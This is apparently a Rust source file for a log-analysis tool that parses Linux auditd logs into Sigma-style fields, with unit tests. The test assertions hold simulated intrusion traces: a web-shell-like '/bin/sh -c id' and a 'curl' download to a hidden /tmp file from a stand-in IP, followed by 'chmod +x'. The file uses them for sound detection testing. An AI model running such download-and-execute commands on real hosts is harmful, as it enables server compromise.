//! Linux audit logs (`/var/log/audit/audit.log`), raw or enriched format.
//!
//! Records sharing `msg=audit(EPOCH.millis:serial)` form one event (SYSCALL,
//! EXECVE, CWD, PATH, PROCTITLE...). An event is complete at its `EOE`
//! record; events without one (single-record events) are handed on once a
//! record more than [`SERIAL_WINDOW`] serials or [`TIME_WINDOW_SECS`] seconds
//! away arrives, when more than [`MAX_PENDING`] events (or
//! [`MAX_PENDING_BYTES`]) are pending, or at the end of the input. So events
//! can come out in a slightly different order than their lines.
//!
//! Fields: `type` (a list of the record types in order); every `key=value` of
//! every record, unquoted, the first record's value winning, except that the
//! SYSCALL record's `exe comm pid ppid uid auid euid success syscall key` and
//! the EXECVE record's arguments (`argc`, `a0`..`aN`, which replace SYSCALL's
//! register values `a0`..`a3`) come first; hex-encoded values decoded (EXECVE
//! arguments, split arguments `aN[i]` joined, PROCTITLE `proctitle` with its
//! NULs as spaces, `name` and `cwd`); a USER record's inner `msg='...'`
//! expanded into its keys; the enriched part after `\x1d` as upper-case keys
//! (`UID`, `AUID`, `SYSCALL`...). Sigma names: `Image` (exe), `CommandLine`
//! (EXECVE arguments joined by spaces, else the decoded proctitle),
//! `ProcessId` (pid), `ParentProcessId` (ppid), `User` (enriched `UID`, else
//! `uid`), `CurrentDirectory` (cwd), `Hostname` (node), `serial` (Int).

use crate::textlog::{self, Emitter, LineParser};
use crate::{ReadOptions, ReadStats, Sink};
use ferret_core::{Fields, LogFormat, Timestamp, Value};
use std::collections::{BTreeMap, HashSet, VecDeque};
use std::io::BufRead;
use std::ops::ControlFlow;

/// Most records kept in one event; more are dropped with an error.
pub const MAX_RECORDS: usize = 64;
/// Most events waiting for more records.
pub const MAX_PENDING: usize = 1024;
/// Most bytes of records waiting in pending events.
pub const MAX_PENDING_BYTES: usize = 32 << 20;
/// A pending event is complete once a record this many serials away arrives.
pub const SERIAL_WINDOW: u64 = 32;
/// A pending event is complete once a record this many seconds away arrives.
pub const TIME_WINDOW_SECS: i64 = 2;

/// SYSCALL keys that win over other records' keys of the same name.
const SYSCALL_FIRST: [&str; 10] = [
    "exe", "comm", "pid", "ppid", "uid", "auid", "euid", "success", "syscall", "key",
];

/// Whether `head` (the first bytes of a file) looks like an audit log: the
/// first of its first five non-blank lines and most of them have `type=` and
/// `msg=audit(`.
pub fn looks_like(head: &[u8]) -> bool {
    textlog::most_lines(head, 5, |l| {
        memchr::memmem::find(l, b"type=").is_some()
            && memchr::memmem::find(l, b"msg=audit(").is_some()
    })
}

/// Reads an audit log from `r`, shown as `display`, handing events and errors to `sink`.
pub fn read<R: BufRead>(display: &str, r: R, opts: &ReadOptions, sink: &mut Sink<'_>) -> ReadStats {
    textlog::run(display, r, opts, sink, &mut AuditParser::default())
}

/// `audit(SECS.FRACTION:SERIAL)`: the identity of an event.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
struct EventKey {
    secs: i64,
    micros: u32,
    serial: u64,
}

impl EventKey {
    fn parse(msg: &str) -> Option<EventKey> {
        let inner = msg.strip_prefix("audit(")?;
        let inner = &inner[..inner.find(')')?];
        let (stamp, serial) = inner.split_once(':')?;
        let (secs, frac) = stamp.split_once('.').unwrap_or((stamp, ""));
        let all_digits = |s: &str| !s.is_empty() && s.bytes().all(|b| b.is_ascii_digit());
        if !all_digits(secs) || !all_digits(serial) || !(frac.is_empty() || all_digits(frac)) {
            return None;
        }
        let mut micros = 0u32;
        for i in 0..6 {
            micros = micros * 10 + frac.as_bytes().get(i).map_or(0, |d| u32::from(d - b'0'));
        }
        Some(EventKey {
            secs: secs.parse().ok()?,
            micros,
            serial: serial.parse().ok()?,
        })
    }

    fn time(self) -> Option<Timestamp> {
        let micros = self
            .secs
            .checked_mul(1_000_000)?
            .checked_add(i64::from(self.micros))?;
        Some(Timestamp::from_unix_micros(micros))
    }

    /// Whether a record with key `other` shows this event can get no more records.
    fn is_far_from(self, other: EventKey) -> bool {
        self.serial.abs_diff(other.serial) > SERIAL_WINDOW
            || self.secs.abs_diff(other.secs) > TIME_WINDOW_SECS.unsigned_abs()
    }
}

/// How a value was written.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Quote {
    None,
    Double,
    Single,
}

/// One `type=... msg=audit(...): ...` line.
#[derive(Debug)]
struct Record {
    kind: String,
    node: Option<String>,
    pairs: Vec<(String, String, Quote)>,
    enriched: Vec<(String, String)>,
}

impl Record {
    fn parse(line: &str) -> Option<(EventKey, Record)> {
        let (raw, enriched) = match line.split_once('\x1d') {
            Some((raw, en)) => (raw, Some(en)),
            None => (line, None),
        };
        // Skip a syslog prefix: the record starts at `node=` or `type=`.
        let start = ["node=", "type="]
            .iter()
            .filter_map(|p| find_key(raw, p))
            .min()?;
        let mut kind = None;
        let mut node = None;
        let mut key = None;
        let mut pairs = Vec::new();
        for (k, v, q) in split_pairs(&raw[start..]) {
            match k {
                "type" if kind.is_none() => kind = Some(v.to_owned()),
                "node" if node.is_none() && kind.is_none() => node = Some(v.to_owned()),
                "msg" if key.is_none() && q == Quote::None => key = Some(EventKey::parse(v)?),
                _ => pairs.push((k.to_owned(), v.to_owned(), q)),
            }
        }
        let enriched = enriched
            .map(|e| {
                split_pairs(e)
                    .into_iter()
                    .map(|(k, v, _)| (k.to_ascii_uppercase(), v.to_owned()))
                    .collect()
            })
            .unwrap_or_default();
        Some((
            key?,
            Record {
                kind: kind?,
                node,
                pairs,
                enriched,
            },
        ))
    }

    fn size(&self) -> usize {
        let pairs: usize = self
            .pairs
            .iter()
            .map(|(k, v, _)| k.len() + v.len() + 16)
            .sum();
        let en: usize = self
            .enriched
            .iter()
            .map(|(k, v)| k.len() + v.len() + 16)
            .sum();
        self.kind.len() + pairs + en + 64
    }
}

/// Where `key` starts in `s` at the start or after a space.
fn find_key(s: &str, key: &str) -> Option<usize> {
    let mut from = 0;
    while let Some(i) = s[from..].find(key) {
        let at = from + i;
        if at == 0 || s.as_bytes()[at - 1] == b' ' {
            return Some(at);
        }
        from = at + key.len();
    }
    None
}

/// `key=value` pairs separated by spaces; values may be `"quoted"` or
/// `'quoted'` (up to the next same quote); words without `=` are skipped.
fn split_pairs(s: &str) -> Vec<(&str, &str, Quote)> {
    let mut out = Vec::new();
    let mut rest = s;
    loop {
        rest = rest.trim_start_matches([' ', '\t']);
        if rest.is_empty() {
            break;
        }
        let word_end = rest.find([' ', '\t']).unwrap_or(rest.len());
        let Some(eq) = rest[..word_end].find('=') else {
            rest = &rest[word_end..];
            continue;
        };
        let key = &rest[..eq];
        let after = &rest[eq + 1..];
        let (value, quote, next) = match after.as_bytes().first() {
            Some(&q @ (b'"' | b'\'')) => {
                let body = &after[1..];
                let end = body.find(q as char).unwrap_or(body.len());
                let quote = if q == b'"' {
                    Quote::Double
                } else {
                    Quote::Single
                };
                (&body[..end], quote, body.get(end + 1..).unwrap_or(""))
            }
            _ => {
                let end = after.find([' ', '\t']).unwrap_or(after.len());
                (&after[..end], Quote::None, &after[end..])
            }
        };
        if !key.is_empty() {
            out.push((key, value, quote));
        }
        rest = next;
    }
    out
}

/// The bytes of an even-length, non-empty hex string.
fn decode_hex(s: &str) -> Option<Vec<u8>> {
    let b = s.as_bytes();
    if b.is_empty() || b.len() & 1 == 1 {
        return None;
    }
    let nib = |c: u8| (c as char).to_digit(16).map(|d| d as u8);
    b.chunks(2)
        .map(|p| Some(nib(p[0])? << 4 | nib(p[1])?))
        .collect()
}

/// The argument number of an EXECVE key: `a3` is (3, whole), `a3[1]` is (3, part).
fn arg_number(key: &str) -> Option<(u32, bool)> {
    let rest = key.strip_prefix('a')?;
    let (num, part) = match rest.split_once('[') {
        Some((n, p)) => {
            let p = p.strip_suffix(']')?;
            if p.is_empty() || !p.bytes().all(|b| b.is_ascii_digit()) {
                return None;
            }
            (n, true)
        }
        None => (rest, false),
    };
    if num.is_empty() || !num.bytes().all(|b| b.is_ascii_digit()) {
        return None;
    }
    Some((num.parse().ok()?, part))
}

/// A value as text: hex decoded for the keys that audit hex-encodes when
/// they hold unusual characters (only when unquoted).
fn decoded(kind: &str, key: &str, value: &str, quote: Quote) -> String {
    let hex_key = matches!(key, "name" | "cwd")
        || (kind == "PROCTITLE" && key == "proctitle")
        || (kind == "EXECVE" && arg_number(key).is_some());
    if quote == Quote::None && hex_key {
        if let Some(bytes) = decode_hex(value) {
            let text = String::from_utf8_lossy(&bytes).into_owned();
            return if key == "proctitle" {
                text.trim_end_matches('\0').replace('\0', " ")
            } else {
                text
            };
        }
    }
    value.to_owned()
}

/// An event still collecting records.
struct Pending {
    key: EventKey,
    line: u64,
    records: Vec<Record>,
    dropped: usize,
    bytes: usize,
}

/// Fields where the first value set for a name wins (exact names).
#[derive(Default)]
struct FirstWins {
    fields: Fields,
    names: HashSet<String>,
}

impl FirstWins {
    fn set(&mut self, key: &str, value: impl Into<Value>) {
        if self.names.insert(key.to_owned()) {
            self.fields.push(key, value);
        }
    }

    fn get(&self, key: &str) -> Option<String> {
        if self.names.contains(key) {
            self.fields.text(key).map(|t| t.into_owned())
        } else {
            None
        }
    }
}

impl Pending {
    fn into_fields(self) -> Fields {
        let mut f = FirstWins::default();
        let types = self
            .records
            .iter()
            .map(|r| Value::from(r.kind.as_str()))
            .collect();
        f.set("type", Value::List(types));
        for rec in self.records.iter().filter(|r| r.kind == "SYSCALL") {
            for (k, v, q) in &rec.pairs {
                if SYSCALL_FIRST.contains(&k.as_str()) {
                    f.set(k, decoded(&rec.kind, k, v, *q));
                }
            }
        }
        let mut args: BTreeMap<u32, String> = BTreeMap::new();
        for rec in self.records.iter().filter(|r| r.kind == "EXECVE") {
            for (k, v, q) in &rec.pairs {
                if k == "argc" {
                    f.set(k, v.as_str());
                } else if let Some((n, _)) = arg_number(k) {
                    args.entry(n)
                        .or_default()
                        .push_str(&decoded(&rec.kind, k, v, *q));
                }
            }
        }
        for (n, a) in &args {
            f.set(&format!("a{n}"), a.as_str());
        }
        for rec in &self.records {
            for (k, v, q) in &rec.pairs {
                if rec.kind == "EXECVE" && arg_number(k).is_some() {
                    continue;
                }
                if k == "msg" && *q == Quote::Single {
                    for (ik, iv, iq) in split_pairs(v) {
                        f.set(ik, decoded(&rec.kind, ik, iv, iq));
                    }
                }
                f.set(k, decoded(&rec.kind, k, v, *q));
            }
        }
        for rec in &self.records {
            for (k, v) in &rec.enriched {
                f.set(k, v.as_str());
            }
        }
        let node = self.records.iter().find_map(|r| r.node.clone());
        let command_line = if args.is_empty() {
            f.get("proctitle")
        } else {
            Some(args.into_values().collect::<Vec<_>>().join(" "))
        };
        let mut fields = f.fields;
        let copies = [
            ("Image", fields.text("exe")),
            ("ProcessId", fields.text("pid")),
            ("ParentProcessId", fields.text("ppid")),
            ("User", uid_name(&fields)),
            ("CurrentDirectory", fields.text("cwd")),
        ]
        .map(|(n, v)| (n, v.map(|t| t.into_owned())));
        for (name, value) in copies {
            if let Some(v) = value {
                fields.insert(name, v);
            }
        }
        if let Some(c) = command_line {
            fields.insert("CommandLine", c);
        }
        if let Some(n) = node {
            fields.insert("Hostname", n);
        }
        fields.insert(
            "serial",
            Value::Int(i64::try_from(self.key.serial).unwrap_or(i64::MAX)),
        );
        fields
    }
}

/// The user: the enriched `UID` (a name) when present, else `uid`.
fn uid_name(fields: &Fields) -> Option<std::borrow::Cow<'_, str>> {
    let exact = |name: &str| {
        fields
            .iter()
            .find(|(n, _)| *n == name)
            .map(|(_, v)| v.as_text())
    };
    exact("UID").or_else(|| exact("uid"))
}

#[derive(Default)]
struct AuditParser {
    pending: VecDeque<Pending>,
    pending_bytes: usize,
}

impl AuditParser {
    fn emit(&mut self, out: &mut Emitter<'_, '_>, index: usize) -> ControlFlow<()> {
        let Some(p) = self.pending.remove(index) else {
            return ControlFlow::Continue(());
        };
        self.pending_bytes = self.pending_bytes.saturating_sub(p.bytes);
        if p.dropped > 0 {
            out.error(
                p.line,
                format!(
                    "audit event {}: {} records beyond {MAX_RECORDS} dropped",
                    p.key.serial, p.dropped
                ),
            )?;
        }
        let (line, time) = (p.line, p.key.time());
        out.event(LogFormat::Auditd, line, time, p.into_fields())
    }
}

impl LineParser for AuditParser {
    fn line(&mut self, out: &mut Emitter<'_, '_>, no: u64, text: &[u8]) -> ControlFlow<()> {
        let text = String::from_utf8_lossy(text);
        let trimmed = text.trim();
        if trimmed.is_empty() || trimmed == "----" || trimmed.starts_with("time->") {
            return ControlFlow::Continue(());
        }
        let Some((key, record)) = Record::parse(&text) else {
            return out.error(
                no,
                "not an audit record (no type= and msg=audit(SECS.MS:SERIAL))",
            );
        };
        if let Some(i) = self.pending.iter().position(|p| p.key == key) {
            if record.kind == "EOE" {
                return self.emit(out, i);
            }
            let size = record.size();
            let p = &mut self.pending[i];
            if p.records.len() >= MAX_RECORDS {
                p.dropped += 1;
            } else {
                p.bytes += size;
                self.pending_bytes += size;
                p.records.push(record);
            }
        } else {
            while let Some(i) = self.pending.iter().position(|p| p.key.is_far_from(key)) {
                self.emit(out, i)?;
            }
            if record.kind == "EOE" {
                return ControlFlow::Continue(());
            }
            let bytes = record.size();
            self.pending_bytes += bytes;
            self.pending.push_back(Pending {
                key,
                line: no,
                records: vec![record],
                dropped: 0,
                bytes,
            });
        }
        while self.pending.len() > MAX_PENDING
            || (self.pending_bytes > MAX_PENDING_BYTES && self.pending.len() > 1)
        {
            self.emit(out, 0)?;
        }
        ControlFlow::Continue(())
    }

    fn finish(&mut self, out: &mut Emitter<'_, '_>) -> ControlFlow<()> {
        while !self.pending.is_empty() {
            self.emit(out, 0)?;
        }
        ControlFlow::Continue(())
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::textlog::testing::{self, errors, events, time};
    use crate::Item;

    fn read_all(data: &[u8], opts: &ReadOptions) -> (Vec<Item>, ReadStats) {
        testing::collect(|sink| read("audit.log", data, opts, sink))
    }

    #[test]
    fn enriched_web_server_shell() {
        let data = include_bytes!("../tests/data/auditd/apache-sh-enriched.log");
        let (items, stats) = read_all(data, &ReadOptions::default());
        assert_eq!((stats.events, stats.errors), (1, 0));
        let e = events(&items)[0];
        assert_eq!(e.source.line, Some(1));
        assert_eq!(e.source.record_id, None);
        assert_eq!(e.format, LogFormat::Auditd);
        assert_eq!(time(e).as_deref(), Some("2023-11-14T22:13:20.123000Z"));
        let f = &e.fields;
        let types: Vec<_> = ["SYSCALL", "EXECVE", "CWD", "PATH", "PATH", "PROCTITLE"]
            .into_iter()
            .map(Value::from)
            .collect();
        assert_eq!(f.get("type"), Some(&Value::List(types)));
        let want = [
            ("exe", "/usr/bin/dash"),
            ("comm", "sh"),
            ("pid", "23456"),
            ("ppid", "1187"),
            ("uid", "33"),
            ("key", "webserver_exec"),
            ("argc", "3"),
            ("a0", "/bin/sh"),
            ("a1", "-c"),
            ("a2", "id"),
            ("a3", "0"),
            ("cwd", "/var/www/html/uploads"),
            ("name", "/bin/sh"),
            ("item", "0"),
            ("proctitle", "/bin/sh -c id"),
            ("UID", "www-data"),
            ("SYSCALL", "execve"),
            ("OUID", "root"),
            ("Image", "/usr/bin/dash"),
            ("CommandLine", "/bin/sh -c id"),
            ("ProcessId", "23456"),
            ("ParentProcessId", "1187"),
            ("User", "www-data"),
            ("CurrentDirectory", "/var/www/html/uploads"),
        ];
        for (k, v) in want {
            assert_eq!(f.text(k).as_deref(), Some(v), "{k}");
        }
        assert_eq!(f.get("serial"), Some(&Value::Int(4567)));
        assert_eq!(f.get("Hostname"), None);
        assert_eq!(f.get("msg"), None);
    }

    #[test]
    fn interleaved_records_and_hex_arguments() {
        let data = include_bytes!("../tests/data/auditd/phpfpm-curl-interleaved.log");
        let (items, stats) = read_all(data, &ReadOptions::default());
        assert_eq!((stats.events, stats.errors), (3, 0));
        let ev = events(&items);
        let curl = &ev[0].fields;
        assert_eq!(ev[0].source.line, Some(1));
        assert_eq!(curl.get("serial"), Some(&Value::Int(4600)));
        assert_eq!(
            curl.text("type").as_deref(),
            Some("SYSCALL EXECVE CWD PATH PROCTITLE")
        );
        assert_eq!(curl.text("a3").as_deref(), Some("http://203.0.113.9/a b"));
        assert_eq!(
            curl.text("CommandLine").as_deref(),
            Some("curl -o /tmp/.x http://203.0.113.9/a b")
        );
        assert_eq!(
            curl.text("proctitle").as_deref(),
            Some("curl -o /tmp/.x http://203.0.113.9/a b")
        );
        assert_eq!(
            curl.text("CurrentDirectory").as_deref(),
            Some("/var/www/my site")
        );
        assert_eq!(curl.text("User").as_deref(), Some("33"));
        assert_eq!(curl.text("Hostname").as_deref(), Some("web01"));
        assert_eq!(curl.text("ParentProcessId").as_deref(), Some("812"));
        let cron = &ev[1].fields;
        assert_eq!(ev[1].source.line, Some(2));
        assert_eq!(cron.text("type").as_deref(), Some("USER_ACCT"));
        assert_eq!(cron.text("acct").as_deref(), Some("root"));
        assert_eq!(cron.text("exe").as_deref(), Some("/usr/sbin/cron"));
        assert_eq!(cron.text("res").as_deref(), Some("success"));
        assert_eq!(cron.text("pid").as_deref(), Some("31400"));
        let chmod = &ev[2].fields;
        assert_eq!(ev[2].source.line, Some(8));
        assert_eq!(
            chmod.text("CommandLine").as_deref(),
            Some("chmod +x /tmp/.x")
        );
        assert_eq!(chmod.text("a0").as_deref(), Some("1"));
    }

    #[test]
    fn pairs_and_hex() {
        let p = split_pairs("a=1 b=\"x y\" junk c='k=v z=\"q\"' d=");
        assert_eq!(
            p,
            vec![
                ("a", "1", Quote::None),
                ("b", "x y", Quote::Double),
                ("c", "k=v z=\"q\"", Quote::Single),
                ("d", "", Quote::None)
            ]
        );
        assert_eq!(decode_hex("2F62696E"), Some(b"/bin".to_vec()));
        assert_eq!(decode_hex("2F6"), None);
        assert_eq!(decode_hex("zz"), None);
        assert_eq!(arg_number("a12"), Some((12, false)));
        assert_eq!(arg_number("a1[0]"), Some((1, true)));
        assert_eq!(arg_number("a1_len"), None);
        assert_eq!(arg_number("arch"), None);
        let k = EventKey::parse("audit(1700000000.123:4567):").unwrap();
        assert_eq!((k.secs, k.micros, k.serial), (1_700_000_000, 123_000, 4567));
        assert_eq!(EventKey::parse("audit(17x.1:2)"), None);
    }

    #[test]
    fn split_arguments_are_joined_and_registers_lose() {
        let data = b"type=SYSCALL msg=audit(1.000:7): a0=3 a1=4 exe=\"/bin/x\" pid=9 uid=0\n\
type=EXECVE msg=audit(1.000:7): argc=2 a0=\"x\" a1_len=6 a1[0]=616263 a1[1]=\"def\"\n";
        let (items, stats) = read_all(data, &ReadOptions::default());
        assert_eq!((stats.events, stats.errors), (1, 0));
        let f = &events(&items)[0].fields;
        assert_eq!(f.text("a0").as_deref(), Some("x"));
        assert_eq!(f.text("a1").as_deref(), Some("abcdef"));
        assert_eq!(f.text("CommandLine").as_deref(), Some("x abcdef"));
        assert_eq!(f.text("User").as_deref(), Some("0"));
        assert_eq!(f.text("a1_len").as_deref(), Some("6"));
    }

    #[test]
    fn too_many_records_and_pending_events_stay_bounded() {
        let mut data = String::new();
        for _ in 0..(MAX_RECORDS + 5) {
            data.push_str("type=PATH msg=audit(5.000:1): item=0 name=\"/x\"\n");
        }
        // Same serial, different fractions: all within the window, so only
        // the pending cap bounds them.
        for n in 1..=3000u32 {
            data.push_str(&format!("type=USER_ACCT msg=audit(5.{n:06}:1): pid=1\n"));
        }
        let mut max_pending = 0;
        let mut parser = AuditParser::default();
        let mut items = Vec::new();
        let mut sink = |i| {
            items.push(i);
            ControlFlow::Continue(())
        };
        let mut out = Emitter::new("a", &mut sink);
        for (i, l) in data.lines().enumerate() {
            let _ = parser.line(&mut out, i as u64 + 1, l.as_bytes());
            max_pending = max_pending.max(parser.pending.len());
        }
        let _ = parser.finish(&mut out);
        assert!(max_pending <= MAX_PENDING, "{max_pending}");
        let errs = errors(&items);
        assert_eq!(errs.len(), 1);
        assert_eq!(
            errs[0].message,
            "audit event 1: 5 records beyond 64 dropped"
        );
        assert_eq!(events(&items).len(), 3001);
    }

    #[test]
    fn long_invalid_truncated_and_empty_input() {
        let mut data = b"type=SYSCALL msg=audit(10.000:1): exe=\"/bin/a\"\n".to_vec();
        data.extend_from_slice(
            format!(
                "type=PATH msg=audit(10.000:1): name=\"{}\"\n",
                "y".repeat(400)
            )
            .as_bytes(),
        );
        data.extend_from_slice(b"not audit\n");
        data.extend_from_slice(b"type=SYSCALL msg=audit(10.000:2): exe=\"/bin/\xff\"");
        let opts = ReadOptions {
            max_line: 100,
            ..ReadOptions::default()
        };
        let (items, stats) = read_all(&data, &opts);
        assert_eq!((stats.events, stats.errors), (2, 2));
        assert_eq!(stats.bytes, data.len() as u64);
        let errs = errors(&items);
        assert_eq!(errs[0].message, "line 2 longer than 100 bytes, skipped");
        assert_eq!(errs[1].line, Some(3));
        let ev = events(&items);
        assert_eq!(ev[0].source.line, Some(1));
        assert_eq!(time(ev[0]).as_deref(), Some("1970-01-01T00:00:10.000000Z"));
        assert_eq!(ev[1].fields.text("Image").as_deref(), Some("/bin/\u{fffd}"));
        assert_eq!(ev[1].source.line, Some(4));
        let (items, stats) = read_all(b"", &ReadOptions::default());
        assert!(items.is_empty());
        assert_eq!(stats, ReadStats::default());
    }

    #[test]
    fn sniffing() {
        assert!(looks_like(
            b"type=DAEMON_START msg=audit(1700000000.000:1): op=start\n"
        ));
        assert!(looks_like(
            b"node=a type=SYSCALL msg=audit(1.2:3): pid=1\nnode=a type=EOE msg=audit(1.2:3): \n"
        ));
        assert!(!looks_like(b"#Fields: date\n"));
    }
}
